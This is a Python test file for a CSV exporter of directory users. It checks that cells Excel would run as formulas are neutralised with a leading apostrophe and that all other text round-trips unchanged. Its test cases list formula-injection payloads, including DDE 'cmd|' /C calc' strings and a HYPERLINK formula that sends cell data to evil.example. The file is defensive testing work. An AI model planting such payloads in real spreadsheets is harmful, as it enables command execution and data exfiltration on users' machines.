"""Users to CSV: what is read back is what was written, and Excel runs nothing of it."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.files import csv_rows
from shared.files.columns import COLUMN_SETS, Cell, Column, columns_of
from shared.graph.user_parts import AuthenticationMethods, Identity
from shared.graph.users import User

WIDE = "＝＋－＠"  # noqa: RUF001 - the full-width forms of =+-@
HIDDEN = "".join(
    chr(code)
    for first, last in [
        *[(0, 0x9), (0xB, 0xC), (0xE, 0x1F), (0x7F, 0x9F), (0xAD, 0xAD), (0x61C, 0x61C)],
        *[(0x200B, 0x200F), (0x2028, 0x202E), (0x2060, 0x206F), (0xFEFF, 0xFEFF)],
    ]
    for code in range(first, last + 1)
)
"""Control and format characters, without CR and LF."""
texts = st.text(st.characters(exclude_categories=["Cs"]))
cells = st.none() | texts | st.sampled_from(["", '"', ",", "\r\n", "\r", "\n", "a\0b", "=1", "\ufeff", "'", "x\u2028y"])


def column(cell: Cell, header: str = "header") -> Column:
    return Column(header, "id", lambda _: cell, lambda _: cell)


def written(cell: Cell, excel: bool = True) -> str:
    """The one cell as a reader sees it."""
    data = csv_rows.rows([User(id="1")], [column("x"), column(cell)], excel)[0]
    return table(data)[0][1]


def table(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))


@given(st.lists(st.lists(cells, min_size=3, max_size=3), max_size=5))
def test_any_text_is_read_back_as_it_was(grid: list[list[str | None]]) -> None:
    users = [User(id="1", display_name=a, surname=b, city=c) for a, b, c in grid]
    data = csv_rows.rows(users, columns_of(["displayName", "surname", "city"]), excel=False)[0]

    assert table(data) == [[cell or "" for cell in row] for row in grid]


@given(st.lists(st.lists(cells, min_size=2, max_size=2), max_size=5), st.integers(1, 2))
def test_the_bytes_are_those_of_the_csv_module(grid: list[list[str | None]], width: int) -> None:
    users = [User(id="1", display_name=a, surname=b) for a, b in grid]
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\r\n").writerows(row[:width] for row in grid)

    data = csv_rows.rows(users, columns_of(["displayName", "surname"][:width]), excel=False)[0]
    assert data == text.getvalue().encode()


@given(cells)
def test_a_single_column_is_read_back_as_it_was(cell: str | None) -> None:
    data = csv_rows.rows([User(id="1", city=cell)] * 2, columns_of(["city"]), excel=False)[0]

    assert table(data) == [[cell or ""]] * 2


@given(cells | st.builds("".join, st.tuples(st.text(HIDDEN, max_size=3), st.text(f"=+-@\t\r{WIDE}1"), texts)))
def test_for_excel_any_text_is_read_back_but_for_an_apostrophe_before_formulas(cell: str | None) -> None:
    found, text = written(cell), cell or ""

    assert found.replace("'", "") == text.replace("'", "")
    if found != text:
        assert text[0] in f"=+-@\t\r{WIDE}{HIDDEN}" or set(text) & set(";\r\n")
    if found[:1] in {"=", "@", "\t", "\r"}:
        pytest.fail("a formula is unguarded")
    assert not found.lstrip(HIDDEN).startswith(tuple(WIDE))
    assert found[:1] in {"+", "-"} or not found.lstrip(HIDDEN).startswith(tuple("=+-@"))
    if found[:1] in {"+", "-"} and found:
        assert set(found) <= set("+-0123456789 ().,/xet")


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "=",
        "==",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "+A1",
        "+1*1",
        "+1-2+cmd|' /C calc'!A0",
        "+",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "-A1",
        "-",
        "--1",
        "-1-1",
        "+1=1",
        "+1;2",
        "+1,2,3",
        "+1 SUM(A1)",
        "+1x",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@ann",
        "\t=1+1",
        "\t",
        "+٣",
        *(f"{begin}1+1" for begin in WIDE),
        WIDE[0],
        WIDE[1] + "81 3 1234 5678",
        WIDE[3] + "ann",
        "\0=1+1",
        "\0\0=1+1",
        "\0" + WIDE[0] + "1",
        "\x01-1",
        "\x1f+31 20 123 4567",
        "\x7f@ann",
        "\x0b=1",
        "\x0c=1",
        "\x85=1",
        "\ufeff=1",
        "\u200b\u200e=1",
        "\u2028=1",
        "\x1b\t=1",
        "'=1",
        "''+1+1",
        "'\0=1",
    ],
)
def test_a_cell_that_excel_would_run_gets_an_apostrophe(cell: str) -> None:
    assert written(cell) == "'" + cell
    assert written(cell, excel=False) == cell


@pytest.mark.parametrize(
    "cell",
    [
        "+1 2065550110",
        "+1 (425) 555-0100",
        "+1 (425) 555-0100x12",
        "+1 425 555 0100 ext. 12",
        "+1 425 555 0100 ext 12",
        "+1 4255550100x123",
        "+44 (0)20 7946 0958",
        "+49 30/123456-0",
        "+49.30.123456",
        "+(31) 20 123 4567",
        "+31201234567",
        "+971-4-391-7000",
        "+0",
        "-1",
        "-12.5",
        "-12,5",
        "+3.14",
        "1+1",
        "a=b",
        "ann@contoso.com",
        " =1",
        'O\'Neil, "Ann"',
        "2026-01-01T00:00:00Z",
        "",
        "\0",
        "\0a=1",
        "a\0=1",
        "\u200bann@contoso.com",
        "|=1",
        "a|=1",
        "Ann|@",
        "１＋１",  # noqa: RUF001
        "M\u00fcller\u00ad-Smith",
    ],
)
def test_phone_numbers_plain_numbers_and_other_texts_stay_as_they_are(cell: str) -> None:
    assert written(cell) == cell


@pytest.mark.parametrize(("value", "text"), [(True, "True"), (False, "False"), (None, "")])
@pytest.mark.parametrize("excel", [True, False])
def test_booleans_are_true_and_false_as_in_the_portals_file_and_null_is_empty(
    value: bool | None, text: str, excel: bool
) -> None:
    user = User(id="1", account_enabled=value, on_premises_sync_enabled=value)
    data = csv_rows.rows([user], columns_of(["accountEnabled", "directorySynced"]), excel)[0]

    assert table(data) == [[text, text]]


@pytest.mark.parametrize(
    ("cell", "guarded"),
    [
        ("a;=1", "a;'=1"),
        ("a;\t@x", "a;\t'@x"),
        ("Main Street 1\r\n=cmd|' /C calc'!A0;b", "Main Street 1\r\n'=cmd|' /C calc'!A0;b"),
        ("a\n+1+1", "a\n'+1+1"),
        ('a\n"=1', "a\n\"'=1"),
        ('a;""=1', 'a;""\'=1'),
        ("+1\n=1", "'+1\n'=1"),
        ("\r=1+1", "'\r'=1+1"),
        ("a;\0=1", "a;\0'=1"),
        ('a;\x01"\x02=1', "a;\x01\"\x02'=1"),
        *((f"a{cut}{begin}1", f"a{cut}'{begin}1") for cut in (";", "\n", "\r", ";\ufeff") for begin in WIDE),
        ("Main Street 1\r\nBerlin", "Main Street 1\r\nBerlin"),
    ],
)
def test_where_excel_may_cut_a_cell_what_follows_is_guarded_too(cell: str, guarded: str) -> None:
    assert written(cell) == guarded
    assert written(cell, excel=False) == cell


HARD = cells | st.text(f"a=+-@;,\r\n\t\"'`\0\x85{WIDE}1")


@pytest.mark.parametrize("separator", [",", ";"])
@given(HARD)
def test_the_guard_can_be_undone_so_keys_stay_keys(separator: str, cell: str | None) -> None:
    data, guarded = csv_rows.rows([User(id="1")], [column("x"), column(cell)], True, separator)
    [[_, found]] = csv.reader(io.StringIO(data.decode(), newline=""), delimiter=separator)

    assert csv_rows.without_guard(found, separator) == (cell or "")
    assert guarded == ({} if found == (cell or "") else {"header": 1})


@given(st.lists(HARD, min_size=3, max_size=3))
def test_with_semicolons_any_text_is_read_back_and_a_reader_that_separates_by_commas_finds_no_formula(
    row: list[str | None],
) -> None:
    raw, _ = csv_rows.rows([User(id="1")], [*map(column, row)], False, ";")
    [found] = csv.reader(io.StringIO(raw.decode(), newline=""), delimiter=";", strict=True)
    assert found == [cell or "" for cell in row]
    data, _ = csv_rows.rows([User(id="1")], [column("x"), *map(column, row)], True, ";")
    for line in csv.reader(io.StringIO(data.decode(), newline="")):
        assert not [cell for cell in line if cell.lstrip(HIDDEN).startswith(tuple("=@+-" + WIDE))]


def test_only_the_files_own_separator_is_quoted() -> None:
    user = User(id="1", display_name="a;b", city="c,d")
    columns = columns_of(["displayName", "city"])
    assert csv_rows.header(columns, False, ";") == b"displayName;city\r\n"
    assert csv_rows.rows([user], columns, True, ";") == (b'"a;b";c,d\r\n', {})
    assert csv_rows.rows([user], columns, True) == (b'a;b,"c,d"\r\n', {})


@given(st.lists(cells | st.text(f"a=+-@;,\r\n\t\"'\0\x85{WIDE}"), min_size=3, max_size=3))
def test_a_reader_that_separates_by_semicolons_finds_no_formula_either(row: list[str | None]) -> None:
    """So Excel reads the file in much of Europe."""
    data = csv_rows.rows([User(id="1")], [column("x"), *map(column, row)], excel=True)[0]
    for line in csv.reader(io.StringIO(data.decode(), newline=""), delimiter=";"):
        assert not [cell for cell in line if cell.lstrip(HIDDEN).startswith(tuple("=@+-" + WIDE))]


@given(st.lists(HARD, min_size=2))
def test_a_cell_is_written_in_the_same_way_whatever_else_its_column_has(column: list[str | None]) -> None:
    users = [User(id="1", city=cell) for cell in column]
    columns = columns_of(["objectId", "city"])
    alone = [csv_rows.rows([user], columns, excel=True) for user in users]

    data, guarded = csv_rows.rows(users, columns, excel=True)
    assert data == b"".join(line for line, _ in alone)
    assert guarded.get("city", 0) == sum(count.get("city", 0) for _, count in alone)


def test_a_strange_cell_is_found_among_many_that_are_not() -> None:
    users = [User(id="1", city="Zürich"), User(id="2", city="\0=1"), User(id="3", city=WIDE[0] + "1"), User(id="4")]
    found = table(csv_rows.rows(users, columns_of(["objectId", "city"]), excel=True)[0])
    assert [row[1] for row in found] == ["Zürich", "'\0=1", "'" + WIDE[0] + "1", ""]


def test_lines_end_with_cr_and_lf_and_only_what_must_be_is_quoted() -> None:
    users = [User(id="1", display_name="Ann", city="a,b"), User(id="2", display_name='The "Boss"', city="Zürich")]

    assert csv_rows.rows(users, columns_of(["displayName", "city"]), excel=True)[0] == (
        'Ann,"a,b"\r\n"The ""Boss""",Zürich\r\n'.encode()
    )


def test_excel_gets_a_bom_before_the_headers_and_others_get_none() -> None:
    columns = columns_of(["userPrincipalName", "mail"])

    assert csv_rows.header(columns, excel=True) == b"\xef\xbb\xbfuserPrincipalName,mail\r\n"
    assert csv_rows.header(columns, excel=False) == b"userPrincipalName,mail\r\n"


def test_no_users_give_no_bytes() -> None:
    assert csv_rows.rows([], columns_of(["mail"]), excel=True)[0] == b""


def test_lists_are_joined_with_semicolons() -> None:
    user = User(
        id="1",
        other_mails=["a@x.com", "b@x.com"],
        identities=[Identity("contoso"), Identity("google.com")],
        authentication_methods=AuthenticationMethods(phone="+1 2065550110"),
    )
    headers = ["alternateEmailAddress", "identityIssuer", "authenticationPhoneNumber"]

    assert csv_rows.rows([user], columns_of(headers), excel=True)[0] == (
        b"a@x.com; b@x.com,contoso; google.com,+1 2065550110\r\n"
    )


def test_a_list_that_begins_with_a_formula_is_guarded_too() -> None:
    user = User(id="1", other_mails=["=1+1", "b@x.com"])

    assert csv_rows.rows([user], columns_of(["alternateEmailAddress"]), excel=True)[0] == b"'=1+1; b@x.com\r\n"


@pytest.mark.parametrize("name", COLUMN_SETS)
def test_a_user_has_as_many_cells_as_there_are_headers(name: str) -> None:
    columns = columns_of(COLUMN_SETS[name])
    header, row = table(csv_rows.header(columns, excel=False) + csv_rows.rows([User(id="1")], columns, excel=True)[0])

    assert len(header) == len(row) == len(columns)
